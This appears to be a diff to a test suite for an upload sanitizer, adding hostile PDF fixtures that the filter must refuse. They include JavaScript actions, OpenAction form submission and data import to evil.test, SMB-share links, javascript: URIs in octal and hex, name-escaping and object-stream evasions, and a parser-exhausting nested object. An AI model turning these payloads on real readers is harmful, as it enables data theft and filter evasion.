@@ -1,5 +1,6 @@
 import { gzipSync } from 'node:zlib';
 import {
+  catalogPdf,
   docx,
   jpegHeader,
   latin,
@@ -153,12 +154,19 @@ const bombs = refused('too_big_inside', [
   ['a PDF bomb', 'a.pdf', packedPdf(' '.repeat(20 * megabyte))],
 ]);
 
+const action = (name: string) => `8 0 obj<</S/${name}/JS(app.alert(1))/F(cmd.exe)>>endobj`;
+
 const damaged = refused('broken', [
   ['half a PDF', 'a.pdf', pdf().subarray(0, 120)],
   ['a PDF without its table', 'a.pdf', latin('%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF')],
   ['only a PDF’s first line', 'a.pdf', latin('%PDF-1.7\n')],
   ['a PDF with much behind', 'a.pdf', pdf('', { tail: 'x'.repeat(9000) })],
   ['a PDF whose packed objects are none', 'a.pdf', pdf('9 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\nnone at all\nendstream endobj')],
+  ['a PDF whose objects are packed in another way', 'a.pdf', packedPdf(action('JavaScript'), '/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]')],
+  ['a PDF whose objects are packed as said elsewhere', 'a.pdf', packedPdf(action('JavaScript'), '/Type/ObjStm/Filter 7 0 R')],
+  ['a PDF whose objects are packed as differences', 'a.pdf', packedPdf(action('JavaScript'), '/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>')],
+  ['a PDF whose objects are packed in two ways', 'a.pdf', packedPdf(action('JavaScript'), '/Filter/None/Type/ObjStm/Filter/FlateDecode')],
+  ['a PDF of dictionaries without end', 'a.pdf', pdf('1 0 obj<<'.repeat(60_000))],
   ['half a JPEG', 'a.jpg', smallJpeg.subarray(0, smallJpeg.length / 2)],
   ['only a JPEG’s first bytes', 'a.jpg', latin('\u00ff\u00d8\u00ff\u00e0')],
   ['JPEG that is HTML', 'a.jpg', latin(`\u00ff\u00d8\u00ff<html>${payload}</html>`)],
@@ -179,8 +187,6 @@ const damaged = refused('broken', [
   ['a ZIP with no directory', 'a.xlsx', latin(`PK\u0003\u0004${'x'.repeat(64)}`)],
 ]);
 
-const action = (name: string) => `8 0 obj<</S/${name}/JS(app.alert(1))/F(cmd.exe)>>endobj`;
-
 const actingPapers = refused('active_pdf', [
   ['PDF with a script', 'a.pdf', pdf(action('JavaScript'))],
   ['PDF with a script, spelled otherwise', 'a.pdf', pdf(action('J#61vaScript'))],
@@ -191,12 +197,35 @@ const actingPapers = refused('active_pdf', [
   ['PDF with a program inside', 'a.pdf', pdf('8 0 obj<</Type/EmbeddedFile>>stream\nMZ\nendstream endobj')],
   ['PDF with a list of files inside', 'a.pdf', pdf('8 0 obj<</Names<</EmbeddedFiles 9 0 R>>>>endobj')],
   ['PDF with a film', 'a.pdf', pdf('8 0 obj<</Subtype/RichMedia>>endobj')],
+  ['PDF with a script behind a text that looks like an object', 'a.pdf', packedPdf(action('JavaScript'), '/X(obj)/Type/ObjStm/Filter/FlateDecode')],
+  ['PDF with a script behind the end of a stream in a text', 'a.pdf', packedPdf(action('JavaScript'), '/X(endstream endobj 9 0 obj)/Type/ObjStm/Filter/FlateDecode')],
+  ['PDF with a script in packed objects of no type', 'a.pdf', packedPdf(action('JavaScript'), '/Filter/FlateDecode')],
+  ['PDF with a script in packed objects, by reference', 'a.pdf', packedPdf(action('JavaScript'), '/Type 7 0 R/Filter[/FlateDecode]')],
+  ['PDF with a script, comments between the words', 'a.pdf', pdf('8 0 obj%x\n<<%y\n/S%z\n/JavaScript/JS(app.alert(1))>>endobj')],
+  ['PDF with a script in a comment its table leads to', 'a.pdf', pdf('%8 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj')],
+  ['PDF with a script in a text its table leads to', 'a.pdf', pdf('7 0 obj(8 0 obj<</S/JavaScript>>endobj)endobj')],
+  ['PDF with a script in a later version', 'a.pdf', Buffer.concat([pdf(), pdf(action('JavaScript'), { head: '' })])],
+  ['PDF with a script packed in a later version', 'a.pdf', Buffer.concat([pdf(), packedPdf(action('JavaScript'))])],
+  ['PDF that sends a form', 'a.pdf', catalogPdf('/OpenAction<</S/SubmitForm/F(http://evil.test)>>')],
+  ['PDF that opens another file', 'a.pdf', catalogPdf('/OpenAction<</S/GoToR/F(//evil.test/share)>>')],
+  ['PDF that opens a file inside', 'a.pdf', catalogPdf('/OpenAction<</S/GoToE>>')],
+  ['PDF that imports data', 'a.pdf', catalogPdf('/OpenAction<</S/ImportData/F(//evil.test/a)>>')],
+  ['PDF that goes to an address when opened', 'a.pdf', catalogPdf('/OpenAction<</S/URI/URI(http://evil.test)>>')],
+  ['PDF that goes to an address when opened, by reference', 'a.pdf', catalogPdf('/Open#41ction 8 0 R', '8 0 obj<</S/URI/URI(http://evil.test)>>endobj')],
+  ['PDF that goes to an address after another action', 'a.pdf', catalogPdf('/OpenAction 8 0 R', '8 0 obj<</S/GoTo/D[3 0 R/Fit]/Next[9 0 R]>>endobj 9 0 obj<</S/U#52I/URI(http://evil.test)>>endobj')],
+  ['PDF whose page goes to an address', 'a.pdf', pdf('3 0 obj<</Type/Page/AA 8 0 R>>endobj 8 0 obj<</O 9 0 R>>endobj 9 0 obj<</S/URI/URI(http://evil.test)>>endobj')],
+  ['PDF that goes to an address, packed', 'a.pdf', packedPdf('8 0 <</OpenAction<</S/URI/URI(http://evil.test)>>>>')],
+  ['PDF with a link to a program', 'a.pdf', pdf('8 0 obj<</S/URI/URI(file:///c:/windows/system32/cmd.exe)>>endobj')],
+  ['PDF with a link to a share', 'a.pdf', pdf('8 0 obj<</S/URI/URI(\\\\\\\\evil.test\\\\a)>>endobj')],
+  ['PDF with a link of a script, in octal', 'a.pdf', pdf('8 0 obj<</S/URI/URI(j\\141vascript:alert\\(1\\))>>endobj')],
+  ['PDF with a link of a script, in hexadecimal', 'a.pdf', pdf(`8 0 obj<</S/URI/URI<${Buffer.from('javascript:alert(1)').toString('hex')}>>>endobj`)],
   ['PDF with a form of scripts', 'a.pdf', pdf('8 0 obj<</AcroForm<</XFA 9 0 R>>>>endobj')],
 ]);
 
 const others: HostileFile[] = [
   ...refused('encrypted', [
     ['PDF with a password', 'a.pdf', pdf('8 0 obj<</Filter/Standard>>endobj\n/Encrypt 8 0 R')],
+    ['PDF with a password, spelled otherwise', 'a.pdf', pdf('8 0 obj<</Filter/Standard>>endobj\n/E#6ecrypt 8 0 R')],
     ['a sheet with a password', 'a.xlsx', xlsx([{ name: 'xl/a.xml', data: 'x', flags: 1 }])],
   ]),
   ...refused('old_office', [
@@ -248,6 +277,10 @@ const names = kept([
   ['PNG with something behind', 'a.png', Buffer.concat([png({ width: 8, height: 8 }), latin(payload)]), 'a.png', 'image/png'],
   ['WebP with a script behind', 'a.webp', Buffer.concat([smallWebp, latin(payload)]), 'a.webp', 'image/webp'],
   ['TIFF with a script behind', 'a.tiff', Buffer.concat([smallTiff, latin(payload)]), 'a.pdf', pdfType],
+  ['PDF with a link', 'a.pdf', pdf('8 0 obj<</Subtype/Link/A<</S/URI/URI(https://carrier.example/track?pro=1)>>>>endobj'), 'a.pdf', pdfType],
+  ['PDF that opens at a page, with a link', 'a.pdf', catalogPdf('/OpenAction 9 0 R', '3 0 obj<</Type/Page/Annots[8 0 R]>>endobj 8 0 obj<</A<</S/URI/URI(mailto:a@b.test)>>>>endobj 9 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj'), 'a.pdf', pdfType],
+  ['PDF with packed objects', 'a.pdf', packedPdf('8 0 <</Type/Font>>'), 'a.pdf', pdfType],
+  ['PDF of words that are no objects', 'a.pdf', pdf('stream\n'.repeat(60_000)), 'a.pdf', pdfType],
   ['PNG called PDF', 'a.pdf', png({ width: 8, height: 8 }), 'a.png', 'image/png'],
   ['PDF called PNG', 'a.png', pdf(), 'a.pdf', pdfType],
   ['a sheet called HTML', 'a.html', xlsx(), 'a.xlsx', sheet],
